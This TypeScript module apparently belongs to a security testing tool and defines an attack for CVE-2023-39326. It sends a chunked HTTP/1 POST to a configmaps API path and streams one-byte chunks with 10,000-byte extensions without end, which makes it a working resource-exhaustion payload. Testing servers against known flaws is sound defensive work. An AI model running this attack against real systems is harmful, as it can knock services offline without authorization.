// Chunks whose extensions are longer than their content.

import type { Attack } from '../attack.ts'
import { attackHttp1, head1 } from '../wire/http1.ts'

const CHUNKS = Buffer.from(`1;${'e'.repeat(10_000)}\r\nx\r\n`)

export const attack: Attack = {
  reference: 'CVE-2023-39326',
  does: 'sends chunks of one byte with extensions of 10,000',
  who: ['known', 'unknown'],
  answers: ['200', '400', '401', '403', '408', '413'],
  run: (target, signal) => {
    const post = head1(target, 'POST /api/v1/namespaces/default/configmaps', 'Transfer-Encoding: chunked')
    return attackHttp1(target, signal, {}, () => {
      const pieces = [post]
      return { next: () => pieces.shift() ?? CHUNKS }
    })
  },
}
